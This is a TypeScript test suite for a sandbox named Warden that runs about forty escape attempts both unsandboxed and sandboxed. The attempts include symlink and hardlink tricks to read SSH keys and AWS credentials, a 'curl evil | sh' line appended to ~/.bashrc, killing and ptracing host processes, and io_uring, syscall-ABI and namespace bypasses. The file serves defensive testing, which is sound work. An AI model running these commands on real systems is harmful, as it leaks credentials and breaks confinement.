/**
 * Attack suite: each case runs an attack without Warden first (the control: proves the attack
 * works on this machine, so the test can fail) and then inside the sandbox, and judges both runs
 * only by host-visible effects afterwards (files changed, markers created, processes killed).
 *
 * Runs as root and as an unprivileged user. Where a control cannot succeed for this user at all
 * (e.g. bpf() for non-root with unprivileged_bpf_disabled), the control is reported as skipped
 * with the reason and the sandboxed run is still checked.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it, type TestContext } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  cleanup,
  compileAttacks,
  ctxEnv,
  defaultSpec,
  isRoot,
  makeCtx,
  ORIGINAL,
  read,
  resetFiles,
  runPlain,
  runSandboxed,
  SECRET,
  sh,
  type Ctx,
} from './harness.js';

interface Attack {
  name: string;
  /** argv of the attack; the same for both runs. */
  argv: (c: Ctx, bins: Record<string, string>, victim: number) => string[];
  /** Wrap the control run (e.g. in `unshare -Ur` when the primitive needs a userns root). */
  controlWrap?: (argv: string[], c: Ctx) => string[];
  /** Did the attack have its effect on the host? */
  effect: (c: Ctx, victim: number) => boolean;
  /** Reason why the control cannot work for this user/kernel (then it is skipped, not failed). */
  controlImpossible?: () => string | undefined;
  /** The attack needs a host victim process. */
  victim?: boolean;
}

const changed = (p: string): boolean => read(p) !== ORIGINAL;
const leaked = (p: string): boolean => (read(p) ?? '').includes(SECRET);
const mark = (c: Ctx, n: string): string => join(c.ws, `marker-${n}`);
const alive = (pid: number): boolean => {
  const s = read(`/proc/${pid}/stat`);
  if (!s) return false;
  const state = s.slice(s.lastIndexOf(')') + 2, s.lastIndexOf(')') + 3);
  return state !== 'Z' && state !== 'X' && state !== 't' && state !== 'T';
};
const userns = (argv: string[]): string[] => ['unshare', '-Ur', ...argv];
const usernsMount = (c: Ctx) => (argv: string[]): string[] => [
  'unshare', '-Urm', 'sh', '-c', `mount --bind -o ro "$0" "$0" && exec "$@"`, c.protectedDir, ...argv,
];
const hasX32 = (): string | undefined => {
  const cfg = spawnSync('sh', ['-c', 'zcat /proc/config.gz 2>/dev/null | grep -q "^CONFIG_X86_X32_ABI=y"']);
  return cfg.status === 0 ? undefined : 'kernel built without CONFIG_X86_X32_ABI: x32 syscalls fail even unsandboxed';
};
const rootOnly = (what: string) => (): string | undefined => (isRoot ? undefined : `${what} needs privileges this user lacks even without Warden`);

const ATTACKS: Attack[] = [
  // -- filesystem escapes --
  { name: 'write outside the workspace', argv: (c) => sh(`echo pwned > ${c.victim}`), effect: (c) => changed(c.victim) },
  { name: 'write a read-only file', argv: (c) => sh(`echo pwned > ${c.protectedFile}`), effect: (c) => changed(c.protectedFile) },
  { name: 'rename a protected file into the workspace', argv: (c) => sh(`mv ${c.protectedFile} ${c.ws}/stolen`), effect: (c) => !existsSync(c.protectedFile) },
  { name: 'rename over a protected file', argv: (c) => sh(`echo pwned > ${c.ws}/f; mv -f ${c.ws}/f ${c.protectedFile}`), effect: (c) => changed(c.protectedFile) },
  { name: 'rename a workspace file out of the workspace', argv: (c) => sh(`echo pwned > ${c.ws}/f; mv -f ${c.ws}/f ${c.outside}/planted`), effect: (c) => existsSync(join(c.outside, 'planted')) },
  { name: 'hardlink a protected file and write through it', argv: (c) => sh(`ln ${c.protectedFile} ${c.ws}/hl; echo pwned >> ${c.ws}/hl`), effect: (c) => changed(c.protectedFile) },
  { name: 'hardlink a denied secret into the workspace', argv: (c) => sh(`ln ${c.awsCred} ${c.ws}/cred`), effect: (c) => leaked(join(c.ws, 'cred')) },
  { name: 'symlink out of the workspace and write', argv: (c) => sh(`ln -s ${c.victim} ${c.ws}/sl; echo pwned > ${c.ws}/sl`), effect: (c) => changed(c.victim) },
  { name: 'symlink to a denied secret and read', argv: (c) => sh(`ln -s ${c.sshKey} ${c.ws}/key; cat ${c.ws}/key > ${c.ws}/leak`), effect: (c) => leaked(join(c.ws, 'leak')) },
  { name: '/proc/self/root write', argv: (c) => sh(`echo pwned > /proc/self/root${c.victim}`), effect: (c) => changed(c.victim) },
  { name: '/proc/self/root read of a denied secret', argv: (c) => sh(`cat /proc/self/root${c.sshKey} > ${c.ws}/leak`), effect: (c) => leaked(join(c.ws, 'leak')) },
  {
    name: '/proc/1/root write',
    argv: (c) => sh(`echo pwned > /proc/1/root${c.victim}`),
    effect: (c) => changed(c.victim),
    controlImpossible: () => (runPlain(['test', '-w', '/proc/1/root/']).status === 0 ? undefined : 'the host init is not accessible to this user (the next case uses a host process of our own)'),
  },
  {
    name: '/proc/<host pid>/root and /cwd write',
    victim: true,
    argv: (c, _b, v) => sh(`echo pwned > /proc/${v}/root${c.victim}; echo pwned > /proc/${v}/cwd/victim.txt`),
    effect: (c) => changed(c.victim),
  },
  { name: 'chmod a protected file', argv: (c) => sh(`chmod 0777 ${c.protectedFile}`), effect: (c) => (statSync(c.protectedFile).mode & 0o777) !== 0o644 },
  { name: 'utime a protected file', argv: (c) => sh(`touch -d 2001-01-01 ${c.protectedFile}`), effect: (c) => statSync(c.protectedFile).mtime.getUTCFullYear() === 2001 },
  { name: 'set an xattr on a protected file', argv: (c, b) => [b['xattr']!, 'set', c.protectedFile], effect: (c) => runPlain([join(c.tools, 'xattr'), 'get', c.protectedFile]).status === 0 },
  { name: 'truncate a protected file', argv: (c) => sh(`truncate -s 0 ${c.protectedFile}`), effect: (c) => statSync(c.protectedFile).size === 0 },
  { name: 'chown a protected file', argv: (c) => sh(`chown 65534 ${c.protectedFile}`), effect: (c) => statSync(c.protectedFile).uid === 65534, controlImpossible: rootOnly('chown') },
  { name: 'read a denied secret (dir and file)', argv: (c) => sh(`cat ${c.sshKey} > ${c.ws}/leak; cat ${c.awsCred} >> ${c.ws}/leak; ls -a ${c.home}/.ssh >> ${c.ws}/leak`), effect: (c) => leaked(join(c.ws, 'leak')) || (read(join(c.ws, 'leak')) ?? '').includes('id_rsa') },
  {
    name: 'read, delete or replace a denied file inside the writable workspace',
    argv: (c) => sh(`cat ${c.wsSecret} > ${c.ws}/leak; rm -f ${c.wsSecret}; mv -f ${c.wsSecret} ${c.ws}/moved; echo pwned > ${c.wsSecret}`),
    effect: (c) => leaked(join(c.ws, 'leak')) || read(c.wsSecret) !== `${SECRET} env\n`,
  },
  { name: 'persistence into ~/.bashrc', argv: (c) => sh(`echo 'curl evil | sh' >> ${c.home}/.bashrc`), effect: (c) => changed(c.bashrc) },
  { name: 'mount: remount a read-only bind rw and write', argv: (c, b) => [b['sys']!, 'mount', mark(c, 'mount'), c.protectedDir], controlWrap: (a, c) => usernsMount(c)(a), effect: (c) => changed(c.protectedFile) },
  {
    name: 'mount: unmount a deny mask to reveal the secret',
    argv: (c) => sh(`umount -l ${c.home}/.ssh; cat ${c.sshKey} > ${c.ws}/leak`),
    controlWrap: (a, c) => ['unshare', '-Urm', 'sh', '-c', `mount -t tmpfs none "$0" && exec "$@"`, join(c.home, '.ssh'), ...a],
    effect: (c) => leaked(join(c.ws, 'leak')),
  },
  // -- processes --
  { name: 'kill a host process', victim: true, argv: (_c, _b, v) => sh(`kill -9 ${v}`), effect: (_c, v) => !alive(v) },
  { name: 'ptrace a host process', victim: true, argv: (c, b, v) => [b['sys']!, 'ptrace', mark(c, 'ptrace'), String(v)], effect: (_c, v) => !alive(v) },
  // -- kernel bypass primitives --
  { name: 'io_uring openat', argv: (c, b) => [b['uring']!, mark(c, 'uring')], effect: (c) => existsSync(mark(c, 'uring')) },
  { name: 'int $0x80 (i386 ABI) creat', argv: (c, b) => [b['int80']!, mark(c, 'int80')], effect: (c) => existsSync(mark(c, 'int80')) },
  { name: 'x32 ABI creat', argv: (c, b) => [b['x32']!, mark(c, 'x32')], effect: (c) => existsSync(mark(c, 'x32')), controlImpossible: hasX32 },
  { name: 'new user namespace: unshare(1)', argv: (c) => sh(`unshare -U touch ${mark(c, 'unshare1')}`), effect: (c) => existsSync(mark(c, 'unshare1')) },
  { name: 'new user namespace: unshare(2)', argv: (c, b) => [b['nsescape']!, 'unshare', mark(c, 'unshare2')], effect: (c) => existsSync(mark(c, 'unshare2')) },
  { name: 'new user namespace: clone(CLONE_NEWUSER)', argv: (c, b) => [b['nsescape']!, 'clone', mark(c, 'clone')], effect: (c) => existsSync(mark(c, 'clone')) },
  { name: 'new user namespace: clone3(CLONE_NEWUSER)', argv: (c, b) => [b['nsescape']!, 'clone3', mark(c, 'clone3')], effect: (c) => existsSync(mark(c, 'clone3')) },
  { name: 'bpf(BPF_MAP_CREATE)', argv: (c, b) => [b['sys']!, 'bpf', mark(c, 'bpf')], effect: (c) => existsSync(mark(c, 'bpf')), controlImpossible: rootOnly('bpf (kernel.unprivileged_bpf_disabled)') },
  { name: 'keyctl add_key', argv: (c, b) => [b['sys']!, 'keyctl', mark(c, 'keyctl')], effect: (c) => existsSync(mark(c, 'keyctl')) },
  { name: 'perf_event_open', argv: (c, b) => [b['sys']!, 'perf', mark(c, 'perf')], effect: (c) => existsSync(mark(c, 'perf')) },
  { name: 'userfaultfd', argv: (c, b) => [b['sys']!, 'userfaultfd', mark(c, 'uffd')], effect: (c) => existsSync(mark(c, 'uffd')) },
  { name: 'AF_PACKET raw socket', argv: (c, b) => [b['sys']!, 'packet', mark(c, 'packet')], controlWrap: (a) => ['unshare', '-Urn', ...a], effect: (c) => existsSync(mark(c, 'packet')) },
  { name: 'AF_INET SOCK_RAW socket', argv: (c, b) => [b['sys']!, 'raw', mark(c, 'raw')], controlWrap: (a) => ['unshare', '-Urn', ...a], effect: (c) => existsSync(mark(c, 'raw')) },
  { name: 'AF_NETLINK socket', argv: (c, b) => [b['sys']!, 'netlink', mark(c, 'netlink')], effect: (c) => existsSync(mark(c, 'netlink')) },
];

describe('attacks (host-visible effects; each proven against an unsandboxed control)', () => {
  let c: Ctx;
  let bins: Record<string, string>;
  before(() => {
    c = makeCtx();
    bins = compileAttacks(c);
  });
  after(() => cleanup(c));

  for (const a of ATTACKS) {
    it(a.name, async (t: TestContext) => {
      let victim: ChildProcess | undefined;
      const newVictim = (): number => {
        victim?.kill('SIGKILL');
        if (!a.victim) return -1;
        victim = spawn('sleep', ['120'], { cwd: c.outside, stdio: 'ignore' });
        return victim.pid!;
      };
      try {
        // Control: without Warden the attack must work.
        resetFiles(c);
        let v = newVictim();
        const argv = a.argv(c, bins, v);
        const impossible = a.controlImpossible?.();
        const ctl = runPlain(a.controlWrap ? a.controlWrap(argv, c) : argv, { env: ctxEnv(c), cwd: c.ws });
        if (a.victim) await sleep(300); // signal delivery is asynchronous
        if (impossible) t.diagnostic(`control skipped: ${impossible}`);
        else assert.ok(a.effect(c, v), `control: the attack did not work even without Warden (status ${ctl.status}, ${ctl.stderr.trim()}) — the test would prove nothing`);

        // Sandboxed: no host-visible effect.
        resetFiles(c);
        v = newVictim();
        const out = await runSandboxed(defaultSpec(c, a.argv(c, bins, v)));
        if (a.victim) await sleep(300);
        assert.equal(out.result.refused, undefined, `sandbox refused to start: ${out.result.refused?.message}`);
        assert.ok(out.result.layers.active.includes('seccomp'), 'seccomp layer active');
        assert.ok(!a.effect(c, v), `the attack had an effect inside the sandbox (exit ${out.result.exitCode}): ${out.stderr.trim()}`);
      } finally {
        victim?.kill('SIGKILL');
      }
    });
  }
});
